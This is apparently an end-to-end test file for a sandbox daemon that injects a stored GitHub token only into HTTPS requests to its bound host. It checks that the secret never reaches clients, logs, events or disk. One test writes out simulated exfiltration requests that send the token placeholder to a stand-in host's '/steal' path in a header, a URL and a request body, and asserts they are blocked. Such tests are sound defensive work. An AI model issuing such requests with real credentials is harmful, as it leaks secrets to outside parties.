// Secret injection end to end: the agent holds a placeholder, the upstream receives the
// real value, and the value never reaches the client, a log line, an event or the disk
// in clear. A placeholder sent to a host the secret is not bound to is blocked and reported.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, test } from 'node:test';
import type { SecretExfiltrationBlockedEvent } from '../../supervisor/api/index.ts';
import { curl } from '../support/curl.ts';
import { policyYaml, startTestDaemon, type TestDaemon, until } from '../support/daemon.ts';
import { startUpstreams, type Upstreams } from '../support/upstreams.ts';

const VALUE = 'ghp_REAL-secret-value-4f1c9e';
let up: Upstreams;
let d: TestDaemon;
let env: Record<string, string>;
let sandboxId: string;

before(async () => {
  up = await startUpstreams();
  d = await startTestDaemon({
    upstreamCa: [up.caPem],
    resolve: { 'api.test': '127.0.0.1', 'other.test': '127.0.0.1' },
  });
  await d.client.call('PUT /v1/secrets/:name', {
    params: { name: 'GH_TOKEN' },
    body: { value: VALUE, hosts: ['api.test'], inject: 'bearer' },
  });
  const created = await d.listener(
    policyYaml(
      `- match: api.test\n  action: allow\n- match: other.test\n  action: allow\n- match: 127.0.0.1\n  action: allow`,
    ),
    { secrets: ['GH_TOKEN'] },
  );
  env = created.env;
  sandboxId = created.listener.sandboxId;
});
after(async () => {
  await d.stop();
  await up.close();
});

test('the agent gets a placeholder, never the value', () => {
  assert.match(env.GH_TOKEN!, /^wdn_ph_/);
  assert.ok(!JSON.stringify(env).includes(VALUE));
});

test('the bound upstream receives the real value in place of the placeholder', async () => {
  const r = await curl(env, [
    '-H',
    `Authorization: Bearer ${env.GH_TOKEN}`,
    `https://api.test:${up.httpsPort}/bytes/16`,
  ]);
  assert.equal(r.status, 200, r.stderr);
  const got = up.received.findLast((x) => x.url === '/bytes/16');
  assert.equal(got?.headers.authorization, `Bearer ${VALUE}`);
  assert.ok(!r.body.includes(VALUE) && !r.headers.includes(VALUE), 'the client never sees the value');
  await until('injected event', () =>
    d.events.find((e) => e.type === 'secret.injected' && e.sandboxId === sandboxId),
  );
});

test('a request to the bound host without the placeholder gets no credential added', async () => {
  const injectedBefore = d.events.filter((e) => e.type === 'secret.injected').length;
  const bare = await curl(env, [`https://api.test:${up.httpsPort}/bytes/17`]);
  assert.equal(bare.status, 200, bare.stderr);
  assert.equal(up.received.findLast((x) => x.url === '/bytes/17')?.headers.authorization, undefined);
  const own = await curl(env, [
    '-H',
    'Authorization: Bearer mine',
    `https://api.test:${up.httpsPort}/bytes/18`,
  ]);
  assert.equal(own.status, 200, own.stderr);
  assert.equal(up.received.findLast((x) => x.url === '/bytes/18')?.headers.authorization, 'Bearer mine');
  assert.equal(d.events.filter((e) => e.type === 'secret.injected').length, injectedBefore);
});

test('a placeholder sent to an unbound host is blocked (header, URL and body) and reported', async () => {
  const before = up.received.length;
  const inHeader = await curl(env, [
    '-H',
    `X-Token: ${env.GH_TOKEN}`,
    `https://other.test:${up.httpsPort}/steal`,
  ]);
  assert.equal(inHeader.status, 403, inHeader.stderr);
  assert.match(
    inHeader.body,
    /placeholder of secret GH_TOKEN \(in x-token\), which is not bound to other\.test/,
  );
  const inUrl = await curl(env, [`https://other.test:${up.httpsPort}/steal?t=${env.GH_TOKEN}`]);
  assert.equal(inUrl.status, 403);
  const inBody = await curl(env, [
    '--data-binary',
    `token=${env.GH_TOKEN}`,
    `https://other.test:${up.httpsPort}/steal`,
  ]);
  assert.equal(inBody.status, 403);
  assert.match(inBody.body, /request body carries the placeholder of secret GH_TOKEN/);
  assert.equal(
    up.received.slice(before).filter((x) => x.url.startsWith('/steal')).length,
    0,
    'nothing reached the upstream',
  );
  const blocked = d.events.filter(
    (e): e is SecretExfiltrationBlockedEvent =>
      e.type === 'secret.exfiltration_blocked' && e.sandboxId === sandboxId,
  );
  assert.deepEqual(blocked.map((e) => e.where).sort(), ['body', 'url', 'x-token']);
});

test('over plain HTTP a placeholder is never swapped: the request is blocked', async () => {
  const r = await curl(env, [
    '-H',
    `Authorization: Bearer ${env.GH_TOKEN}`,
    `http://api.test:${up.httpPort}/plain`,
  ]);
  assert.equal(r.status, 403);
  assert.match(r.body, /secrets are only injected into HTTPS requests/);
});

test('the value is in no log line, no event and not in clear on disk', () => {
  assert.ok(!d.logs.join('\n').includes(VALUE));
  assert.ok(!JSON.stringify(d.events).includes(VALUE));
  const vault = readFileSync(d.daemon.paths.secretsFile);
  assert.ok(!vault.includes(Buffer.from(VALUE)));
  assert.ok(vault.includes(Buffer.from('GH_TOKEN')), 'the vault file is the one holding the secret');
});
